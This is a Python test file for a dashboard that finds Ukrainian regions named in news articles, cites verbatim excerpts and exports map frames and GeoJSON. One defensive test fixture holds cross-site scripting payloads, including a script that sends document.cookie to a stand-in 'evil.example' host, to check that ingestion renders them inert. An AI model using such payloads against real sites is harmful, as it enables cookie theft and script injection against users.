"""The map for any source: named units, verbatim excerpts, curated statuses, several sources, the CLI."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dashboard.claims import article_files, view_frames
from dashboard.claims.article_files import frame_for_file
from dashboard.claims.source_views import combine, source_view
from dashboard.claims.view_frames import map_frame
from dashboard.core import paths
from dashboard.core.errors import DataError
from dashboard.sources.ingest import ingest_bytes, ingest_paste
from dashboard.sources.model import Article, SourceMeta
from dashboard.sources.reader import build_article
from dashboard.sources.store import Store
from dashboard.testing import assert_excerpts_verbatim

ARTICLE = (
    "Drones Strike Odesa Overnight\n"
    "\n"
    "Russian drones struck Odesa and the city of Kherson overnight, officials said. "
    "Shelling continued in the Donetsk region.\n"
    "\n"
    "Moscow also occupies part of Ukraine's northeastern Kharkiv region, and fighting in Donbas went on.\n"
)


def generic(path: str, text: str, title: str = "") -> Article:
    return build_article(path, text, SourceMeta(title=title, publisher=""))


def check_view(view) -> int:
    """Every mention and excerpt of ``view`` is verbatim at its offsets and inside the text; returns a count."""
    text = view.article.text
    n = 0
    for unit in view.units:
        assert unit.mentions
        for m in unit.mentions:
            assert 0 <= m.start < m.end <= len(text)
            assert text[m.start : m.end] == m.text
            e = m.excerpt
            assert e.source == view.path
            assert 0 <= e.start < e.end <= len(text)
            assert text[e.start : e.end] == e.text
            assert e.start <= m.start and m.end <= e.end  # the excerpt holds the mention
            assert m.block in ("headline", "caption", "body")
            assert not view.article.in_boilerplate(m.start, m.end)
            n += 1
        for e in unit.excerpts:
            assert text[e.start : e.end] == e.text
    return n


# -- one source --------------------------------------------------------------------------------------------------


def test_a_pasted_article_names_its_units_with_sentences(tmp_path, curated):
    store = Store(tmp_path)
    stored = store.add_ingested(ingest_paste(ARTICLE))
    view = source_view(stored.article(), curated)
    assert view.path == f"store:{stored.id}"
    assert {"UA-51", "UA-65", "UA-14", "UA-63", "UA-09"} <= set(view.named_units)
    assert check_view(view) >= 6
    donetsk = view.unit("UA-14")
    assert "Shelling continued in the Donetsk region." in [e.text for e in donetsk.excerpts]
    kharkiv = view.unit("UA-63")
    assert [e.text for e in kharkiv.excerpts] == [
        "Moscow also occupies part of Ukraine's northeastern Kharkiv region, and fighting in Donbas went on."
    ]


def test_statuses_come_from_the_source_itself_never_from_the_curated_data(tmp_path, curated):
    view = source_view(generic("store:x", ARTICLE), curated)
    # "Shelling continued in the Donetsk region." states no status: the seed's curated one is not lent to it.
    donetsk = view.unit("UA-14")
    assert (donetsk.claim, donetsk.control) == ("not-stated", "not-stated")
    assert donetsk.region is None and not donetsk.curated
    assert donetsk.claim_excerpts == donetsk.control_excerpts == donetsk.context_excerpts == ()
    # "Moscow also occupies part of … Kharkiv region" is this source's own statement: a suggestion citing it.
    kharkiv = view.unit("UA-63")
    assert kharkiv.control == "part" and kharkiv.origin == "suggested" and kharkiv.suggested
    assert [e.source for e in kharkiv.control_excerpts] == ["store:x"]
    assert kharkiv.control_excerpts[0].text.startswith("Moscow also occupies part of Ukraine's northeastern Kharkiv")
    assert "suggested from the text, not reviewed" in kharkiv.status_line
    assert kharkiv.status_source_line is not None
    odesa = view.unit("UA-51")
    assert (odesa.claim, odesa.control) == ("not-stated", "not-stated") and not odesa.suggested


def test_headline_mentions_count_but_are_flagged(curated):
    view = source_view(generic("store:x", ARTICLE), curated)
    odesa = view.unit("UA-51")
    assert [m.block for m in odesa.mentions] == ["headline", "body"]
    assert not odesa.headline_only
    headline = odesa.mentions[0].excerpt
    assert headline.label == "headline" and headline.text == "Drones Strike Odesa Overnight"
    only = source_view(generic("store:y", "Lviv Prepares for Winter\n\nThe city is calm.\n"), curated)
    assert only.unit("UA-46").headline_only


def test_city_and_group_mentions_keep_their_feature(curated):
    view = source_view(generic("store:x", ARTICLE), curated)
    kherson = view.unit("UA-65")
    assert "city" in kherson.features
    city = next(m for m in kherson.mentions if m.feature == "city")
    assert "Kherson" in city.text
    assert city.excerpt.text.startswith("Russian drones struck Odesa and the city of Kherson")
    donbas = [m for m in view.mentions if m.text == "Donbas"]
    assert {m.unit for m in donbas} == {"UA-14", "UA-09"} and {m.feature for m in donbas} == {"group"}


def test_boilerplate_is_never_cited(curated):
    text = (
        "Support The Moscow Times!\n\n"
        "Kremlin Says Nothing About Lviv\n\n"
        "Russian forces attacked the Kherson region.\n\n"
        "Sign up for our free weekly newsletter about Odesa and Mykolaiv.\n\n"
        "Read more about Zaporizhzhia.\n"
    )
    meta = SourceMeta(title="Kremlin Says Nothing About Lviv", publisher="The Moscow Times", profile="moscow-times")
    view = source_view(build_article("store:mt", text, meta), curated)
    assert set(view.named_units) == {"UA-46", "UA-65"}
    check_view(view)


def test_seed_view_covers_the_curated_units_with_caption_labelled(tmp_path, curated):
    seed = Store(tmp_path).get("seed")
    view = source_view(seed.article(), curated)
    assert set(curated.units) <= set(view.named_units)
    assert view.path == f"seeds/{paths.SEED_SLUG}.txt"
    caption = [m for m in view.unit("UA-14").mentions if m.block == "caption"]
    assert caption and caption[0].excerpt.label == "caption"
    assert assert_excerpts_verbatim(view.excerpts()) >= 4  # the seed's excerpts check against the file itself
    # Nothing cited from the newsletter sign-up or donation appeal.
    check_view(view)


def test_script_payloads_stay_inert_text(tmp_path, curated):
    html = (
        b"<html><head><title>Kharkiv &lt;script&gt;alert(1)&lt;/script&gt;</title>"
        b"<script>alert('x')</script></head><body><article>"
        b"<p>Shelling hit Kharkiv <img src=x onerror=alert(2)> and Sumy overnight, officials said.</p>"
        b"<p>The &lt;img src=x onerror=alert(3)&gt; tag is text here, near Odesa.</p>"
        b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        b"</article></body></html>"
    )
    stored = Store(tmp_path).add_ingested(ingest_bytes("payload.html", html))
    assert "alert('x')" not in stored.text and "fetch(" not in stored.text and "onerror=alert(2)" not in stored.text
    view = source_view(stored.article(), curated)
    assert {"UA-63", "UA-59", "UA-51"} <= set(view.named_units)
    check_view(view)
    odesa = view.unit("UA-51").excerpts[0].text
    assert odesa == "The <img src=x onerror=alert(3)> tag is text here, near Odesa."  # plain text: escape it


# -- several sources ---------------------------------------------------------------------------------------------


def test_combine_groups_excerpts_by_source(curated):
    a = source_view(generic("store:a", ARTICLE), curated)
    b = source_view(generic("store:b", "Ports Report\n\nOdesa port reopened. Mykolaiv did not.\n"), curated)
    both = combine([a, b, a])
    assert [v.path for v in both.sources] == ["store:a", "store:b"]
    odesa = both.unit("UA-51")
    assert odesa.sources == ("store:a", "store:b")
    grouped = odesa.excerpts_by_source()
    assert list(grouped) == ["store:a", "store:b"]
    assert all(e.source == src for src, excerpts in grouped.items() for e in excerpts)
    assert [e.text for e in grouped["store:b"]] == ["Odesa port reopened."]
    assert both.unit("UA-48").sources == ("store:b",)
    assert both.unit("UA-14").claim == "not-stated" and odesa.claim == "not-stated"
    assert set(both.named_units) == set(a.named_units) | set(b.named_units)


def test_map_frame_has_every_unit_and_leaves_unnamed_ones_neutral(curated):
    view = source_view(generic("store:a", ARTICLE), curated)
    frame = map_frame(view)
    assert len(frame) == 27 and frame.crs.to_epsg() == 4326
    by_iso = frame.set_index("iso_3166_2")
    assert by_iso.loc["UA-14", "named"] and by_iso.loc["UA-14", "claim"] == "not-stated"
    assert by_iso.loc["UA-63", "control"] == "part" and by_iso.loc["UA-63", "suggested"]
    assert by_iso.loc["UA-51", "named"] and by_iso.loc["UA-51", "claim"] == "not-stated"
    assert not by_iso.loc["UA-51", "curated"]
    lviv = by_iso.loc["UA-46"]
    assert not lviv["named"] and lviv["claim"] is None and lviv["status"] == "Not named in the source"
    assert set(frame.loc[frame["named"], "iso_3166_2"]) == set(view.named_units)
    combined = map_frame(combine([view, source_view(generic("store:b", "Odesa.\n\nOdesa again."), curated)]))
    assert combined.set_index("iso_3166_2").loc["UA-51", "sources"] == 2


# -- property: every excerpt of any text is verbatim -----------------------------------------------------------

NAMES = [
    "Donetsk",
    "Kharkiv region",
    "the city of Kherson",
    "Донецьк",
    "Донецк",
    "Luhansk Oblast",
    "the Crimean Peninsula",
    "Donbas",
    "Zaporizhzhia's",
    "Kyiv",
    "Odesa",
    "Крим",
]
SEPARATORS = [" ", ". ", ", ", "\n", "\n\n", "\r\n", "! ", " — ", "'s "]
texts = st.one_of(
    st.text(),
    st.lists(st.one_of(st.sampled_from(NAMES), st.sampled_from(SEPARATORS), st.text(max_size=20)), max_size=40).map(
        "".join
    ),
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts)
def test_every_excerpt_of_any_text_is_verbatim(curated, text):
    view = source_view(generic("store:prop", text), curated)
    check_view(view)
    for e in view.excerpts():
        assert 0 <= e.start < e.end <= len(text) and text[e.start : e.end] == e.text


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts)
def test_every_excerpt_of_any_accepted_paste_is_verbatim(curated, text):
    try:
        ingested = ingest_paste(text)
    except DataError:
        return
    view = source_view(generic("store:paste", ingested.text, ingested.title), curated)
    check_view(view)


# -- files and the command line ----------------------------------------------------------------------------------

TXT = "Kherson Under Fire\n\nRussian forces shelled the city of Kherson. Odesa was quiet.\n"
MD = "# Front Line Report\n\nFighting in the *Donetsk region* and near Kharkiv.\n"
HTML = (
    "<html><head><title>Crimea Report</title><meta property='og:site_name' content='Example Wire'></head>"
    "<body><nav>Home | Lviv news</nav><article><h1>Crimea Report</h1>"
    "<p>Ships left Sevastopol as Crimean officials spoke of Luhansk Oblast.</p></article>"
    "<footer>Subscribe</footer></body></html>"
)


def test_frame_for_file_on_txt_md_html(tmp_path, curated):
    cases = [("a.txt", TXT, {"UA-65", "UA-51"}), ("b.md", MD, {"UA-14", "UA-63"}), ("c.html", HTML, None)]
    for name, content, expected in cases:
        path = tmp_path / name
        path.write_text(content, encoding="utf-8")
        frame, meta, source = frame_for_file(path, curated)
        assert source == str(path)
        assert list(frame.columns) == list(view_frames.FRAME_COLUMNS)
        units = set(frame["iso_3166_2"])
        if expected is not None:
            assert units == expected, name
        else:
            assert {"UA-40", "UA-43", "UA-09"} <= units and "UA-46" not in units  # nav is not article text
        for _, row in frame.iterrows():
            assert row["excerpts"] and all(e.source == source for e in row["excerpts"])
            assert row["context_excerpts"] == []
            # statuses are this file's own (suggestions, citing it), never the curated seed's
            assert row["origin"] != "curated"
            for column in ("claim_excerpts", "control_excerpts"):
                assert all(e.source == source for e in row[column])
            for statement in (row["claim_statement"], row["control_statement"]):
                assert statement.source == source
        article, _ = article_files.read_file(path)
        for _, row in frame.iterrows():
            for e in row["excerpts"]:
                assert article.text[e.start : e.end] == e.text
        if name != "c.html":  # a UTF-8 text file: offsets are into the file itself
            assert_excerpts_verbatim(e for excerpts in frame["excerpts"] for e in excerpts)
    assert meta.title == "Crimea Report" and meta.publisher == "Example Wire"


def test_frame_for_file_reads_metadata_beside_the_file(tmp_path, curated):
    (tmp_path / "story.txt").write_text(TXT, encoding="utf-8")
    (tmp_path / "story.toml").write_text(
        'title = "Kherson Under Fire"\npublisher = "Example Daily"\npublished = 2025-03-01\n', encoding="utf-8"
    )
    _, meta, _ = frame_for_file(tmp_path / "story.txt", curated)
    assert (meta.title, meta.publisher, str(meta.published)) == ("Kherson Under Fire", "Example Daily", "2025-03-01")


def test_frame_for_file_refusals_name_the_path(tmp_path, curated):
    with pytest.raises(DataError, match=r"missing\.txt: source file not found"):
        frame_for_file(tmp_path / "missing.txt", curated)
    (tmp_path / "x.pdf").write_bytes(b"%PDF-1.4")
    with pytest.raises(DataError, match=r"x\.pdf: unsupported file type '\.pdf'"):
        frame_for_file(tmp_path / "x.pdf", curated)
    (tmp_path / "empty.html").write_text("<html><body></body></html>", encoding="utf-8")
    with pytest.raises(DataError, match=r"empty\.html: no article text found in this HTML"):
        frame_for_file(tmp_path / "empty.html", curated)


def test_a_file_naming_nothing_gives_an_empty_frame(tmp_path, curated):
    (tmp_path / "none.txt").write_text("Weather Today\n\nSunny and warm everywhere.\n", encoding="utf-8")
    frame, _, _ = frame_for_file(tmp_path / "none.txt", curated)
    assert len(frame) == 0 and list(frame.columns) == list(view_frames.FRAME_COLUMNS)


def test_cli_exports_geojson_for_an_html_source(tmp_path):
    (tmp_path / "tmp").mkdir()
    (tmp_path / "tmp" / "article.html").write_text(HTML, encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(paths.ROOT)}
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "dashboard",
            "export",
            "--format",
            "geojson",
            "--source",
            "tmp/article.html",
            "--out",
            "x.geojson",
        ],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    collection = json.loads((tmp_path / "x.geojson").read_text(encoding="utf-8"))
    assert collection["type"] == "FeatureCollection"
    assert collection["metadata"]["source"] == "tmp/article.html"
    assert collection["metadata"]["title"] == "Crimea Report"
    features = {f["properties"]["iso_3166_2"]: f["properties"] for f in collection["features"]}
    assert {"UA-40", "UA-43", "UA-09"} <= set(features)
    article, _ = article_files.read_file(tmp_path / "tmp" / "article.html")
    names = [e for p in features.values() for e in p["excerpts"] if "names" in e["roles"]]
    assert names and all(e["source"] == "tmp/article.html" for e in names)
    assert all(article.text[e["start"] : e["end"]] == e["text"] for e in names)
    # the file's own statuses: it states none of Luhansk's, so nothing is lent from the curated seed
    assert (features["UA-09"]["claim"], features["UA-09"]["control"]) == ("not-stated", "not-stated")
    assert all(e["source"] == "tmp/article.html" for p in features.values() for e in p["excerpts"])


def test_only_a_stored_source_other_than_the_seed_is_reviewable(curated):
    assert not source_view(curated.article, curated).reviewable  # the curated seed: its statuses are claims.toml's
    pasted = build_article("store:abc-1", "Shelling in the Kherson region went on.", SourceMeta(title="", publisher=""))
    assert not source_view(pasted, curated).reviewable  # not stored: nowhere to keep a review
    assert source_view(pasted, curated, [], "abc-1").reviewable
    assert not source_view(pasted, curated, [], "seed").reviewable
